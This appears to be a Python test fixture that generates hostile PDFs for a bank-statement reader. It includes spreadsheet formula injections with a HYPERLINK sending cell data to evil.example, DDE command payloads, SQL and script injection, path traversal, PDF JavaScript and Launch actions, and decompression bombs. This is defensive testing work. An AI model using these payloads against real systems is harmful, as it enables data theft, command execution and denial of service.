"""Files that a reader must refuse, and files that must not fool it. Each has a truth that says what is right: `refused`
with the reason, or `read` with a statement's truth, or `either` where reading and refusing are both right, as long as
it stays within its limits of time and memory."""

import random
import zlib

import model
from pdf import Objects, Pdf

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "=cmd|' /C notepad'!'A1'", '"; DROP TABLE sessions; --', "<script>alert(1)</script>", "../../etc/passwd"]

MIB = 1 << 20


def deflated(block, times, level=6):
    """A block repeated that often, compressed, without ever holding all of it."""
    packer = zlib.compressobj(level)
    return b"".join([packer.compress(block) for _ in range(times)] + [packer.flush()])


def one_page(file, content, entries=b"", resources=b""):
    """A file of one page around the number of its content."""
    tree = file.reserve()
    page = file.add(b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Resources<<%s>>/Contents %d 0 R>>"
                    % (tree, resources, content))
    file.put(tree, b"<</Type/Pages/Count 1/Kids[%d 0 R]%s>>" % (page, entries))
    return file.written(file.add(b"<</Type/Catalog/Pages %d 0 R>>" % tree))


FONT = b"/Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>"


def image_only():
    """A scan: the page is a picture."""
    chance = random.Random(3)
    wide, high = 620, 877
    lines = bytearray(b"\xff" * (wide * high))
    for top in range(80, 800, 22):
        x = 60
        while x < 520:
            length = chance.randrange(12, 60)
            for y in range(top, top + 9):
                lines[y * wide + x:y * wide + x + length] = bytes(length)
            x += length + 8
    file = Objects()
    image = file.stream(bytes(lines), b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray"
                                      b"/BitsPerComponent 8" % (wide, high))
    return one_page(file, file.stream(b"q 595 0 0 842 0 0 cm /Scan Do Q"), resources=b"/XObject<</Scan %d 0 R>>" % image)


def blank():
    pdf = Pdf("Blank")
    pdf.page()
    return pdf.written()


def letter():
    """Text, but no statement."""
    pdf = Pdf("A letter")
    page = pdf.page()
    for place, line in enumerate(("Dear Madam or Sir,", "on 4 March 2026 we wrote to you about your order of 120.00 EUR.",
                                  "We should be glad to hear from you.", "Yours faithfully")):
        page.text(60, 100 + 20 * place, line, "Times-Roman", 12)
    return pdf.written()


def inflating(times):
    """One stream, compressed twice, of that many MiB of spaces."""
    file = Objects()
    packed = zlib.compress(deflated(b" " * MIB, times, 1), 9)
    return one_page(file, file.add(b"/Filter[/FlateDecode/FlateDecode]", packed))


def wordy(times):
    """One page that shows a word again and again: much text out of a small file."""
    file = Objects()
    lines = b"".join(b"BT /F 8 Tf %d %d Td (word%d) Tj ET\n" % (x, y, x * y)
                     for x in range(10, 590, 30) for y in range(10, 830, 25))
    return one_page(file, file.add(b"/Filter/FlateDecode", deflated(lines, times)), resources=FONT)


def many_pages(levels):
    """A tree of pages whose every node names the next ten times: ten to the power of the levels."""
    file = Objects()
    content = file.stream(b"BT /F 12 Tf 50 700 Td (page) Tj ET")
    node = file.add(b"<</Type/Page/MediaBox[0 0 595 842]/Resources<<%s>>/Contents %d 0 R>>" % (FONT, content))
    for level in range(1, levels + 1):
        node = file.add(b"<</Type/Pages/Count %d/Kids[%s]>>" % (10 ** level, b" ".join([b"%d 0 R" % node] * 10)))
    return file.written(file.add(b"<</Type/Catalog/Pages %d 0 R>>" % node))


def page_after_page(count):
    """That many pages, which share what they show."""
    file = Objects()
    tree = file.reserve()
    content = file.stream(b"BT /F 12 Tf 50 700 Td (page) Tj ET")
    fonts = file.add(b"<<%s>>" % FONT)
    kids = [file.add(b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 9 9]/Resources %d 0 R/Contents %d 0 R>>"
                     % (tree, fonts, content)) for _ in range(count)]
    file.put(tree, b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, b" ".join(b"%d 0 R" % kid for kid in kids)))
    return file.written(file.add(b"<</Type/Catalog/Pages %d 0 R>>" % tree))


def object_stream(count):
    """An object stream of that many objects, catalogue and pages among them."""
    bodies = [b"<</Type/Catalog/Pages 2 0 R>> ", b"<</Type/Pages/Count 0/Kids[]>> "]
    offsets, length = [], 0
    for number in range(1, count + 1):
        offsets.append(b"%d %d" % (number, length))
        length += len(bodies[number - 1]) if number <= len(bodies) else 5
    listed = b" ".join(offsets) + b" "
    body = zlib.compress(listed + b"".join(bodies) + b"null " * (count - len(bodies)), 4)
    holder, table = count + 1, count + 2
    out = bytearray(b"%PDF-1.7\n")
    first = len(out)
    out += (b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream\nendobj\n"
            % (holder, count, len(listed), len(body), body))
    second = len(out)
    rows = bytearray(b"\0" * 8)
    for index in range(count):
        rows += b"\2" + holder.to_bytes(4, "big") + index.to_bytes(3, "big")
    for place in (first, second):
        rows += b"\1" + place.to_bytes(4, "big") + b"\0\0\0"
    packed = zlib.compress(bytes(rows), 4)
    out += (b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 3]/Root 1 0 R/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream\n"
            b"endobj\nstartxref\n%d\n%%%%EOF\n" % (table, table + 1, len(packed), packed, second))
    return bytes(out)


def damaged(data):
    """The file with some bytes of its largest stream changed: a page whose rest cannot be read."""
    streams, start = [], 0
    while (start := data.find(b"\nstream\n", start)) >= 0:
        end = data.find(b"\nendstream", start)
        streams.append((end - start, start))
        start = end
    length, start = max(streams)
    middle = start + length // 2
    return data[:middle] + bytes(byte ^ 0xA5 for byte in data[middle:middle + 16]) + data[middle + 16:]


def nested(depth):
    """An array in an array in an array…"""
    file = Objects()
    return one_page(file, file.stream(b"BT ET"), b"/More " + b"[" * depth + b"]" * depth)


def circle():
    """A form that shows itself."""
    file = Objects()
    form = file.reserve()
    entries = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</Again %d 0 R>>>>" % form
    file.put(form, entries, b"/Again Do /Again Do")
    return one_page(file, file.stream(b"/Again Do"), resources=b"/XObject<</Again %d 0 R>>" % form)


def endless():
    """A table of references whose predecessor is itself."""
    good = letter()
    start = int(good.rpartition(b"startxref\n")[2].split()[0])
    return good.replace(b"trailer\n<<", b"trailer\n<</Prev %d" % start)


def statement(layout, seed, count, change=None, **more):
    """A statement that can be read; `change` alters it before it is drawn."""
    made = model.make(layout, seed, count, off=False, **more)
    if change:
        change(made)
    pdf = layout.draw(made, None)
    return made, pdf


def formulas(made):
    for index, text in enumerate(FORMULAS):
        made.rows[index].merchant = text


def active(pdf):
    """Everything that a file could do by itself or tell others: scripts, programs, links, attached and external files."""
    pdf.further = [
        b"<</S/JavaScript/JS(app.alert\\('no'\\); this.submitForm\\('http://evil.example/'\\);)>>",
        b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>",
        b"<</S/URI/URI(http://evil.example/opened)>>",
        b"<</S/GoToR/F(//evil.example/share/file.pdf)/D[0/Fit]>>",
        b"<</Type/Filespec/F(http://evil.example/file)/FS/URL>>",
        b"<</Names[(go){0} 0 R]>>".replace(b"{0}", b"1"),
    ]
    pdf.catalog = ("/OpenAction {0} 0 R/AA<</WC {1} 0 R/WS {2} 0 R/DS {3} 0 R>>"
                   "/Names<</EmbeddedFiles<</Names[(file) {4} 0 R]>>>>")


def files(known):
    """Every hostile file: name, bytes and truth."""
    made, pdf = statement(known["northbank"], 1, 30, holders=["exact"])
    good = pdf.written()

    def refused(name, data, why):
        return name, data, {"kind": "hostile", "expects": "refused", "why": why}

    def either(name, data, why):
        return name, data, {"kind": "hostile", "expects": "either", "why": why}

    yield refused("not-a-pdf", b"<!DOCTYPE html><title>Statement</title><p>Please log in to see your statement.\n",
                  "it is a web page")
    yield refused("empty", b"", "it has no bytes")
    yield refused("header-only", b"%PDF-1.7\n", "it ends after its first line")
    yield refused("truncated", good[:len(good) * 6 // 10], "its end is missing")
    yield refused("damaged", damaged(good), "a page cannot be read to its end, so that transactions would be missing")
    pdf.password = "secret"
    yield refused("encrypted", pdf.written(), "a password opens it")
    yield refused("image-only", image_only(), "its page is a picture")
    yield refused("blank", blank(), "its page shows nothing")
    yield refused("letter", letter(), "it is no statement")
    yield either("bomb-stream", inflating(1024), "a stream of 1 GiB in a few kilobytes")
    yield either("bomb-words", wordy(8000), "some million words on one page")
    yield either("bomb-pages", many_pages(8), "a hundred million pages")
    yield either("pages", page_after_page(30_000), "30,000 pages")
    yield either("bomb-objects", object_stream(300_000), "an object stream of 300,000 objects")
    yield either("nested", nested(200_000), "arrays in arrays, 200,000 deep")
    yield either("circle", circle(), "a form that shows itself twice")
    yield either("endless", endless(), "a table of references that names itself as its predecessor")
    made, pdf = statement(known["karte"], 2, 20, change=formulas, holders=["exact"])
    yield "formulas", pdf.written(), made.truth("formulas.pdf", len(pdf.pages)) | {"expects": "read"}
    made, pdf = statement(known["meridian"], 3, 60, holders=["exact", "exact"])
    active(pdf)
    yield "active", pdf.written(), made.truth("active.pdf", len(pdf.pages)) | {"expects": "read"}
    made, pdf = statement(known["northbank"], 4, 120, holders=["exact"])
    for page in pdf.pages:
        # Rows for the eye, at the foot of every page.
        page.text(50, 790, f"{made.last.day:02}/{made.last.month:02}/{made.last.year}", size=7)
        page.text(174, 790, "Your credit limit from next month on", size=7)
        page.text(545, 790, "12,000.00", size=7, align="right")
    yield "footers", pdf.written(), made.truth("footers.pdf", len(pdf.pages)) | {"expects": "read"}
